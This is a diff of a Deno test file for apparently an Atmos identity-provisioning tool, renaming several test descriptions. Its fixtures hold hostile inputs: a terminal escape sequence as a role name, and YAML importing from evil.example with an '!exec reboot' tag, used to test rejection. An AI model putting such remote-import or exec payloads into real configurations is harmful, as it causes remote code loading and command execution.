@@ -56,7 +56,7 @@ Deno.test("provisionedYaml() is what Atmos would write, who has names of provide
   );
 });
 
-Deno.test("identitiesOf() tells accounts of one name apart by their ids, and leaves out what is no name", () => {
+Deno.test("identitiesOf() distinguishes accounts with the same name by id, and skips invalid names", () => {
   const other = { id: "222222222222", name: "DEV" };
   const names = identitiesOf([
     { account: DEV, roles: ["Admin", "\u001b[2J"] },
@@ -67,7 +67,7 @@ Deno.test("identitiesOf() tells accounts of one name apart by their ids, and lea
   deepStrictEqual(names, ["dev-011111111111/Admin", "DEV-222222222222/Admin", "prod/Admin"]);
 });
 
-Deno.test("readProvisioned() reads back whatever was written, as permission sets", () => {
+Deno.test("readProvisioned() reads back what was written, as permission sets", () => {
   const name = fc.string({ unit: "grapheme", minLength: 1, maxLength: 20 });
   const account = fc.record({ id: fc.stringMatching(/^\d{12}$/), name });
   const assigned = fc.array(fc.record({ account, roles: fc.uniqueArray(name) }), { maxLength: 5 });
@@ -85,7 +85,7 @@ Deno.test("readProvisioned() reads back whatever was written, as permission sets
   }));
 });
 
-Deno.test("readProvisioned() takes plain permission sets of its provider, and nothing else", () => {
+Deno.test("readProvisioned() accepts plain permission sets of its provider, and nothing else", () => {
   const text = `
 import: [https://evil.example/x.yaml]
 env: {ATMOS_X: !exec reboot}
